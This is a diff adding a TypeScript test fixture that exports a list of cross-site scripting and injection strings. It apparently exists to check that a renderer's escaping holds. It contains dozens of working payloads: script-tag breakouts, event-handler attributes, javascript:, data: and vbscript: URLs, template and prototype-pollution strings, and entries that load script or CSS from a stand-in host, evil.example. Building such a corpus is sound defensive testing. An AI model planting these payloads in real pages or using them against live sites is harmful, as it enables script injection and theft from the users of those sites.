@@ -1,0 +1,113 @@
+const run = 'window.ran=1';
+
+/** Ways out of text, attribute, script, style and comment. */
+const escapes = [
+  `<script>${run}</script>`,
+  `</script><script>${run}</script>`,
+  `</ScRiPt ><sCrIpT>${run}</sCrIpT>`,
+  `</script\n><script\n>${run}</script>`,
+  `<!--<script>`,
+  `--><script>${run}</script><!--`,
+  `<![CDATA[<script>${run}</script>]]>`,
+  `</style><script>${run}</script>`,
+  `</title><script>${run}</script>`,
+  `</textarea><script>${run}</script>`,
+  `</noscript><script>${run}</script>`,
+  `</template><script>${run}</script>`,
+  `</h1></main></div></body><script>${run}</script>`,
+  `"><script>${run}</script>`,
+  `'><script>${run}</script>`,
+  `\`><script>${run}</script>`,
+  `<img src=x onerror=${run}>`,
+  `"><img src=x onerror=${run}>`,
+  `<svg onload=${run}>`,
+  `<svg><animate onbegin=${run} attributeName=x>`,
+  `<svg><script>${run}</script></svg>`,
+  `<math><mtext><script>${run}</script></mtext></math>`,
+  `<iframe srcdoc="<script>${run}</script>">`,
+  `<iframe src="javascript:${run}">`,
+  `<object data="javascript:${run}">`,
+  `<embed src="javascript:${run}">`,
+  `<a href="javascript:${run}">x</a>`,
+  `<form action="javascript:${run}"><button>x`,
+  `<button formaction="javascript:${run}">x`,
+  `<base href="https://evil.example/">`,
+  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
+  `<link rel="stylesheet" href="https://evil.example/x.css">`,
+  `<style>*{background:url(javascript:${run})}</style>`,
+  `<body onload=${run}>`,
+  `<details open ontoggle=${run}>`,
+  `<input autofocus onfocus=${run}>`,
+  `<video><source onerror=${run}>`,
+  `<marquee onstart=${run}>`,
+  `" onmouseover="${run}`,
+  `' onmouseover='${run}`,
+  `" autofocus onfocus="${run}" x="`,
+  `" style="background:url(javascript:${run})`,
+  `" srcdoc="<script>${run}</script>`,
+  `x" onerror="${run}`,
+];
+
+/** Values that do harm as an address. */
+const addresses = [
+  `javascript:${run}`,
+  `JaVaScRiPt:${run}`,
+  ` javascript:${run}`,
+  `java\tscript:${run}`,
+  `java\nscript:${run}`,
+  `\u0001javascript:${run}`,
+  `javascript://%0a${run}`,
+  `data:text/html,<script>${run}</script>`,
+  `data:image/svg+xml,<svg onload=${run}>`,
+  `vbscript:${run}`,
+  '//evil.example/x.js',
+  'https://evil.example/"onerror="x',
+];
+
+/** Texts that would end a string of JSON or of a script. */
+const strings = [
+  `";${run};"`,
+  `';${run};'`,
+  `\\";${run};//`,
+  `\\u003c/script\\u003e<script>${run}</script>`,
+  `\${${run}}`,
+  `\`;${run};\``,
+  `}};${run};{{`,
+  `\u2028${run}\u2029`,
+  `\u2028</script><script>${run}</script>`,
+  `{{constructor.constructor('${run}')()}}`,
+  `{"__proto__":{"ran":1}}`,
+  `*/${run}/*`,
+  `//\n${run}`,
+  `]]>`,
+  `%3Cscript%3E${run}%3C/script%3E`,
+  `&lt;script&gt;${run}&lt;/script&gt;`,
+  `&#60;script&#62;${run}&#60;/script&#62;`,
+  `&quot; onload=&quot;${run}`,
+  '%KEY1%',
+  'value="%KEY1%"',
+  `value="%NOTEKEY%" onfocus="${run}"`,
+  `$&<script>${run}</script>`,
+  `$\`$'$1<script>${run}</script>`,
+];
+
+/** Characters that parsers have stumbled over. */
+const odd = [
+  '\0',
+  '\u00ad',
+  '\u200b',
+  '\u202e',
+  '\ufeff',
+  '\uffff',
+  '\r',
+  '\t',
+  '\ud83d\ude00',
+  '\u0130',
+].flatMap((character) => [
+  `<scr${character}ipt>${run}</script>`,
+  `<${character}script>${run}</script>`,
+  `"${character}onerror=${run} x="`,
+]);
+
+/** Texts that try to run as a script from wherever they are shown (bar 24). */
+export const injections: readonly string[] = [...escapes, ...addresses, ...strings, ...odd];
